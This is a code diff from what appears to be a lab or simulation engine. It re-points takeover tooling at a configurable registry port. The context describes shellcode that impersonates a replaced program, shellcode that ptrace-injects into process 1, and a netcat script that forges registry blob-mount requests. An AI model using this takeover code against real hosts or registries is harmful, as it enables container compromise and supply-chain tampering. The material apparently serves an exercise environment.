@@ -1,9 +1,10 @@
+import { REGISTRY_PORT } from '../../engine/site-registry/registry-layout.ts';
 import { executable64 } from './tiny-program.ts';
 
 /**
  * Machine code that pushes in the place of the program whose code it replaces: it sends /tmp/req to the registry of the room,
  * reads the answers to their end, writes /tmp/said to its standard error as the executor would, and exits with 0. In the words of
- * system calls: mmap 64 KiB; open /tmp/req; socket; connect 127.0.0.1:80; copy the file to the socket; copy the socket to
+ * system calls: mmap 64 KiB; open /tmp/req; socket; connect 127.0.0.1, at the registry's port; copy the file to the socket; copy the socket to
  * standard output; open /tmp/said; copy it to standard error; exit_group(0).
  */
 const PUSH = Buffer.from(
@@ -14,6 +15,9 @@ const PUSH = Buffer.from(
   ].join(''),
   'base64',
 );
+
+/** Where the code has the port that it connects to: behind the family of the address, before 127.0.0.1. */
+PUSH.writeUInt16BE(REGISTRY_PORT, PUSH.indexOf(Buffer.from('020000507f000001', 'hex')) + 2);
 
 /**
  * Machine code that traces process 1 (PTRACE_ATTACH), writes what follows it to the place that its last eight bytes name
@@ -40,7 +44,7 @@ export const TAKEOVER_FILES: Readonly<Record<string, Buffer | string>> = {
 own=${'$'}{destination%:*}
 type=application/vnd.docker.distribution.manifest.v2+json
 printf 'GET /v2/library/busybox/manifests/stable HTTP/1.0\r\nHost: x\r\nAccept: %s\r\n\r\n' $type |
-  nc -w 5 127.0.0.1 80 | sed '1,/^.$/d' > /tmp/manifest
+  nc -w 5 127.0.0.1 ${REGISTRY_PORT} | sed '1,/^.$/d' > /tmp/manifest
 for digest in $(grep -o 'sha256:[0-9a-f]*' /tmp/manifest); do
   printf 'POST /v2/%s/blobs/uploads/?mount=%s&from=library/busybox HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n' $own $digest
 done > /tmp/req
